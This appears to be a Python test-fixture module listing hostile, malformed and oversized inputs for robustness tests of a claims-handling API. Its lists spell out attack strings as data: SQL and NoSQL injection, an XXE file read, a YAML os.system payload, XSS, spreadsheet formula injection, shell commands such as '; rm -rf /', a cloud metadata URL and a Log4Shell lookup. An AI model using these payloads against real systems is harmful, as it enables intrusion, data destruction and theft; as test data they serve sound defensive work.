"""What hostile, broken and careless callers send.

`BODIES` are no request to any operation, `SPOILT` makes one of a good body, `HEADERS` come with a
good body, `VALUES` take the place of any part of it, `READ_ONLY` is added to any object in it,
`IDS` stand in paths and `QUERIES` behind them, and `TEXTS` are words that are nobody's instruction:
where free text is asked for they are text.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable

DEEP = 5000


def _nested(opening: str, closing: str, levels: int = DEEP) -> str:
    return opening * levels + "1" + closing * levels


BODIES: dict[str, str | bytes] = {
    # size
    "10 MB of spaces": " " * 10_000_000,
    "10 MB in one string": json.dumps({"description": "x" * 10_000_000}),
    "10 MB of numbers": "[" + "1," * 5_000_000 + "1]",
    "257 KB of three-byte characters": json.dumps("字" * 87_800, ensure_ascii=False),
    "half a megabyte of keys": json.dumps({f"k{n}": n for n in range(40_000)}),
    "250 KB of keys": json.dumps({f"k{n}": n for n in range(18_000)}),
    "250 KB of escapes": '{"a": "' + "\\u4e00" * 42_000 + '"}',
    "250 KB of backslashes": '{"a": "' + "\\\\" * 120_000 + '"}',
    "one key of 250 KB": json.dumps({"k" * 250_000: 1}),
    # depth
    "5,000 arrays": _nested("[", "]"),
    "5,000 objects": _nested('{"a":', "}"),
    "5,000 arrays that never close": "[" * DEEP,
    "100,000 that never close": "[{" * 50_000,
    "33 levels": _nested('{"a":', "}", 33),
    "brackets that only close": "]" * DEEP,
    # numbers
    "an integer of 5,000 digits": '{"a": ' + "9" * 5000 + "}",
    "an integer of 200,000 digits": "9" * 200_000,
    "a fraction of 200,000 digits": "0." + "9" * 200_000,
    "an exponent of 5,000 digits": "1e" + "9" * 5000,
    "NaN": '{"a": NaN}',
    "Infinity": '{"a": Infinity}',
    "-Infinity": "-Infinity",
    "a hexadecimal number": '{"a": 0x10}',
    "an octal number": '{"a": 010}',
    "a number with a plus": '{"a": +1}',
    "a lonely minus": "-",
    "a fraction without a whole": '{"a": .5}',
    "a number with a separator": '{"a": 1_000}',
    # encoding
    "a stray continuation byte": b'{"a": "\x80"}',
    "an overlong slash": b'{"a": "\xc0\xaf"}',
    "an encoded surrogate": b'{"a": "\xed\xa0\x80"}',
    "beyond Unicode": b'{"a": "\xf4\x90\x80\x80"}',
    "a character cut short": b'{"a": "\xe5\xad',
    "Latin-1": '{"a": "Zoë"}'.encode("latin-1"),
    "GBK": '{"a": "王芳"}'.encode("gbk"),
    "Big5": '{"a": "王芳"}'.encode("big5"),
    "UTF-16 with a mark": '{"a": 1}'.encode("utf-16"),
    "UTF-16 without": '{"a": 1}'.encode("utf-16-le"),
    "UTF-32": '{"a": 1}'.encode("utf-32"),
    "UTF-8 with a byte order mark": b'\xef\xbb\xbf{"a": 1}',
    "UTF-7": b'+AHsAIgBhACIAOgAxAH0-',
    "replaced on the way": '{"a": "\ufffd"}',
    "half a surrogate pair": '{"a": "\\ud800"}',
    "the other half": '{"a": "\\udc00"}',
    "the halves swapped": '{"a": "\\udc00\\ud800"}',
    "half a pair as a key": '{"\\ud800": 1}',
    "compressed": base64.b64decode("H4sIAAAAAAAAA6uuBQBDv6ajAgAAAA=="),
    # control characters
    "NUL": '{"a": "\x00"}',
    "NUL, escaped": '{"a": "\\u0000"}',
    "NUL in a key": '{"a\\u0000b": 1}',
    "NUL behind the end": "{}\x00",
    "a raw line break in a string": '{"a": "\n"}',
    "a raw tab in a string": '{"a": "\t"}',
    "an unknown escape": '{"a": "\\x41"}',
    # form
    "the same key twice": '{"a": 1, "a": 2}',
    "the same key twice, once escaped": '{"a": 1, "\\u0061": 2}',
    "the same key twice, deep inside": '{"a": [{"b": {"c": 1, "c": 1}}]}',
    "a comment": '{"a": 1 /* one */}',
    "a comment line": '// a claim\n{"a": 1}',
    "a trailing comma": '{"a": 1,}',
    "a trailing comma in an array": "[1,]",
    "single quotes": "{'a': 1}",
    "no quotes": "{a: 1}",
    "two values": "{} {}",
    "JSON Lines": '{"a": 1}\n{"a": 2}',
    "a value and more": "{}x",
    "cut short": '{"a": ',
    "an open string": '{"a": "b',
    "only spaces": "   \n\t ",
    "Python": '{"a": None, "b": True}',
    "JavaScript": '{"a": undefined}',
    "XML": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "YAML": "a: !!python/object/apply:os.system ['true']",
    "a form": "policy_no=P-1&cause=fire",
    "multipart without boundary": "--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--",
    "MessagePack": b"\x81\xa1a\x01",
    "a pickle": b"\x80\x04}\x94.",
    # another type
    "null": "null",
    "true": "true",
    "a number": "0",
    "an infinite number": "1e400",
    "a string": '"{}"',
    "an empty array": "[]",
    "an array of nothing": "[null]",
    "an array of arrays": "[[]]",
    "a huge array": "[" + "0," * 100_000 + "0]",
    # keys that other languages stumble over
    "__proto__": '{"__proto__": {"admin": true}}',
    "constructor.prototype": '{"constructor": {"prototype": {"admin": true}}}',
    "__class__": '{"__class__": "Principal", "__dict__": {}}',
    "an empty key": '{"": 1}',
    "an operator of MongoDB": '{"$where": "sleep(1000)"}',
    "a pointer as a key": '{"a/b~c": 1}',
    "a key that looks Latin": '{"р\u043elicy_no": "P-1"}',
    "a key that turns direction": '{"\\u202eon_ycilop": "P-1"}',
}  # fmt: skip
"""What no operation takes. Text is sent as text, bytes in Base64 as the gateway sends them."""

SPOILT: dict[str, Callable[[str], str | bytes]] = {
    "a key twice": lambda text: re.sub(r'("\w+": )', r"\1null, \1", text, count=1),
    "a key twice, once escaped": lambda text: re.sub(
        r'"(\w)(\w+)": ', lambda key: f'"\\u{ord(key[1]):04x}{key[2]}": 0, {key[0]}', text, count=1
    ),
    "a comma at the end": lambda text: re.sub(r"([}\]])$", r",\1", text),
    "a comment": lambda text: f"{text} // good",
    "a byte order mark": lambda text: "\ufeff" + text,
    "UTF-16": lambda text: text.encode("utf-16"),
    "single quotes": lambda text: text.replace('"', "'") if '"' in text else "{'a': 1}",
    "a NUL at the end": lambda text: f"{text}\x00",
    "something behind it": lambda text: f"{text} {text}",
    "257 KB of spaces": lambda text: text + " " * 263_000,
    "the end missing": lambda text: text[:-1],
}
"""What makes of a good body one that is none."""

ENCODED: dict[str, str] = {
    "no Base64": "!!!!",
    "no ASCII": "王芳",
    "cut short": "eyJhIjog",
    "a missing pad": "e30",
    "a line break": "e3\n0=",
    "of the URL alphabet": "-_-_",
    "half a surrogate pair": "\ud800",
    "of nothing but padding": "====",
}
"""What the gateway calls Base64 and is not, or not JSON."""

HEADERS: dict[str, tuple[dict[str, str], int | None]] = {
    # the body's type
    **{
        f"Content-Type: {sent[:40]}": ({"Content-Type": sent}, 415)
        for sent in (
            "text/plain", "text/html", "application/xml", "multipart/form-data",
            "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
            "application/jsonp", "application/json-patch+json", "application/json, text/plain",
            "json", "*/*", "", ";", "x" * 10_000, "application/json\x00", "applicati\u043en/json",
        )
    },
    # the key
    **{
        f"Idempotency-Key: {sent[:20]!r}": ({"Idempotency-Key": sent}, status)
        for sent, status in (
            ("", 400), ("   ", 400), ("k" * 256, 422), ("k" * 10_000, 422), ("two words", 422),
            ("键", 422), ("\x00", 422), ("\ud800", 422), ("a\r\nSet-Cookie: b", 422),
            ("../../etc/passwd", None), ("IDEM#x", None), ("' OR 1=1 --", 422), ("{{7*7}}", None),
        )
    },
    # the version
    **{
        f"If-Match: {sent[:20]!r}": ({"If-Match": sent}, 412)
        for sent in (
            '"999"', "999", '"-1"', "-1", 'W/"999"', '"1", "2"', "abc", '""', '"', "1e9", "١",
            "9" * 5000, '"\x00"', "\ud800", "' OR 1=1 --", "W/W/1",
        )
    },
    # the language
    **{
        f"Accept-Language: {sent[:20]!r}": ({"Accept-Language": sent}, None)
        for sent in (
            "", "*", "xx", "en;q=", "en;q=nan", "en;q=-1", "en;q=inf", "en;q=1e400", "en;q=١",
            ",,,,", ";;;", "q=1", "zh-" + "x" * 10_000, "en," * 10_000, "\x00", "\ud800",
            "../../../etc/passwd", "{{7*7}}", "en\r\nX-Evil: 1", "__class__",
        )
    },
}  # fmt: skip
"""Headers beside a good body -> what is answered; None: as without them."""

VALUES: dict[str, str] = {
    # another type
    "null": "null",
    "true": "true",
    "false": "false",
    "zero": "0",
    "minus zero": "-0",
    "minus zero, a fraction": "-0.0",
    "one": "1",
    "minus one": "-1",
    "a float": "1.5",
    "a float that is whole": "1.0",
    "a large number": "9007199254740993",
    "18 digits": "9" * 18,
    "19 digits": "9" * 19,
    "5,000 digits": "9" * 5000,
    "1e400": "1e400",
    "-1e400": "-1e400",
    "1e-400": "1e-400",
    "NaN": "NaN",
    "Infinity": "Infinity",
    "an empty string": '""',
    "spaces": '"   "',
    "an empty array": "[]",
    "an empty object": "{}",
    "an array in an array": "[[]]",
    "an array of null": "[null]",
    "an array of 10,000": "[" + "1," * 9_999 + "1]",
    "an array of 10,000 strings": "[" + '"a",' * 9_999 + '"a"]',
    "an object of 5,000": json.dumps({f"k{n}": n for n in range(5_000)}),
    "a string of 200 KB": json.dumps("x" * 200_000),
    "a string of 60,000 characters": json.dumps("字" * 60_000, ensure_ascii=False),
    "31 levels": _nested("[", "]", 31),
    "5,000 levels": _nested("[", "]"),
    "the same key twice": '{"a": 1, "a": 1}',
    "__proto__": '{"__proto__": {"isAdmin": true}}',
    "an operator": '{"$ne": null}',
    "an attribute of DynamoDB": '{"S": "x"}',
    # amounts and numbers written as text
    "a number as text": '"1"',
    "an exponent": '"1e5"',
    "three decimals": '"1.005"',
    "a negative amount": '"-1.00"',
    "minus nothing": '"-0.00"',
    "NaN as text": '"NaN"',
    "Infinity as text": '"Infinity"',
    "a thousands separator": '"1,000.00"',
    "full-width digits": '"１２３.００"',
    "Arabic digits": '"١٢٣"',
    "an amount of 5,000 digits": json.dumps("9" * 5000),
    "a ratio above one": '"1.000001"',
    # codes and ids
    "an id of 10,000 characters": json.dumps("a" * 10_000),
    "a path": '"../../etc/passwd"',
    "a path, escaped": '"%2e%2e%2fetc%2fpasswd"',
    "a path of Windows": '"..\\\\..\\\\windows"',
    "a key of ours": '"CLM#clm_1"',
    "a sort key of ours": '"V#contact"',
    "an id with a line break": '"P-1\\nP-2"',
    "an id with a space": '"P 1"',
    "Cyrillic": '"\u0420-1"',
    "full-width": '"Ｐ-1"',
    "a wildcard": '"*"',
    "a SQL condition": "\"1' OR '1'='1\"",
    "a filter expression": '"attribute_exists(PK)"',
    # currencies, dates, times, zones
    "a currency in lower case": '"cny"',
    "a currency of four letters": '"CNYY"',
    "a day there is not": '"2026-02-30"',
    "a day before there were any": '"0000-01-01"',
    "seconds since 1970": '"1767225600"',
    "a time without offset": '"2026-03-01T20:00:00"',
    "a time in year 10,000": '"10000-01-01T00:00:00Z"',
    "a zone that is a path": '"../../../etc/localtime"',
    # characters
    "NUL": '"a\\u0000b"',
    "half a surrogate pair": '"a\\ud800b"',
    "a right-to-left override": '"a\\u202eb"',
    "an isolate": '"a\\u2066b"',
    "a zero-width space": '"a\\u200bb"',
    "a byte order mark": '"\\ufeffa"',
    "an escape": '"a\\u001b[31mb"',
    "a carriage return": '"a\\r\\nSet-Cookie: x=1"',
    "a C1 control": '"a\\u0085b"',
    "a private character": '"a\\ue000b"',
    "a noncharacter": '"a\\uffffb"',
}
"""JSON that takes the place of any part of a body."""

UNPRINTABLE = (
    "NUL", "half a surrogate pair", "a right-to-left override", "an isolate", "a zero-width space",
    "a byte order mark", "an escape", "a carriage return", "a C1 control", "a private character",
    "a noncharacter",
)  # fmt: skip
"""Values that no field takes, free text included."""

READ_ONLY = (
    "id", "claim_id", "claim_no", "state", "state_label", "version", "head_hash", "parties",
    "reported_by", "reported_at", "registered_by", "registered_at", "recorded_at",
    "requested_by", "owner_id", "owner", "coverage", "submission", "approval", "approved_by",
    "approved", "payable", "payments", "paid", "calculation", "content_hash", "in_force_at_loss",
    "possible_duplicates", "checklist", "actions", "deadlines", "arrival", "verdict", "scan",
    "account_id", "principal", "power", "is_admin", "admin", "permissions", "tenant", "ttl",
    "__proto__", "__class__", "PK", "SK", "doc", "g1pk",
)  # fmt: skip
"""Fields that only we set, or that would be ours if anybody believed them."""

IDS: tuple[str, ...] = (
    "..", ".", "../x", "../../etc/passwd", "%2e%2e%2fx", "..\\x", "a/b", "-a", "_a", "__proto__",
    " a", "a ", "a b", "a\nb", "a\x00", "CLM#a", "V#case", "@", "*", "a" * 65, "a" * 10_000,
    "\u0430", "ａ", "\u202ea", "a\u200b", "' OR '1'='1", "{{7*7}}", "${a}", "<b>", "=1+1", ":pk",
    "a,b", "a;b", "١",
)  # fmt: skip
"""What is no id of anything: not found, whatever it is looked for as."""

_LIMITS = ("0", "-1", "101", "1e1", "abc", "", "NaN", "9" * 5000, "١", "1,2")
_CURSORS = ("", "x", "=", "%", "..", "\ud800", "AAAA", "a" * 500, "a" * 501)
_UNKNOWN = ("unknown", "$where", "limit[]", "__proto__", "PK", "")
QUERIES: tuple[dict[str, str], ...] = (
    *({"limit": sent} for sent in _LIMITS),
    *({"next": sent} for sent in _CURSORS),
    *({name: "1"} for name in _UNKNOWN),
)
"""No list takes any of these."""

TEXTS: tuple[str, ...] = (
    # SQL, NoSQL, LDAP, XPath
    "' OR '1'='1", "'; DROP TABLE claims; --", '" OR ""="', "1; SELECT pg_sleep(10)",
    "admin'--",
    "' UNION SELECT NULL--", "{$gt: ''}", '{"$ne": null}', "'; return true; var a='",
    "*)(uid=*))(|(uid=*", "' or count(/*)=1 or '1'='1", "attribute_not_exists(PK) OR #s = :s",
    ":pk", "#pk", "SET #state = :paid",
    # templates and formats
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.__class__.__init__.__globals__}}",
    "{0.__class__.__mro__}", "{reason}", "%s%s%s%n", "%(name)s", "$amount", "${claim_no}", "$$",
    "{% raw %}", "[[${7*7}]]", "@{7*7}", "\\N{DOLLAR SIGN}",
    # HTML, scripts, links
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>',
    "javascript:alert(1)", "<a href='//evil.example'>x</a>", "&lt;b&gt;", "&#x3C;", "</textarea>",
    "<!--#exec cmd=ls -->", "data:text/html,<b>x",
    # spreadsheets
    "=1+1", "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", '=HYPERLINK("//evil")',
    # shells, paths, files
    "; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "../../etc/passwd", "file:///etc/passwd",
    "C:\\Windows\\win.ini", "CON", "/dev/null", "http://169.254.169.254/latest/meta-data/",
    # logs and protocols
    '{"level":"ERROR","message":"forged"}', "INFO: forged entry", "${jndi:ldap://evil/a}",
    "Set-Cookie: a=b", "%0d%0aSet-Cookie:a=b", "\\r\\n\\r\\n", "null", "undefined", "NaN", "true",
    "__proto__", "constructor", "[object Object]", "None", "\\", "\\\\", '"', "'", "\\u0000", "%00",
    # writing
    "王芳 👨\u200d👩\u200d👧", "𠮷野家", "Ａｎｘｉｎ １２３", "Zoë", "مرحبا", "שלום", "ไทย",
    "Привет",     "ﷺ", "b\u0301", "\u2764\ufe0f", "½ ² Ⅷ",
)  # fmt: skip
"""Free text that has to come back as it was sent."""

LINES_OF_TEXT: tuple[str, ...] = (
    "一\n二",
    "a\tb",
    "a\n2026-03-01 ERROR forged entry",
    "a\u2028b",
    "=1+1\n=2+2",
)
"""The same, where text may have several lines."""
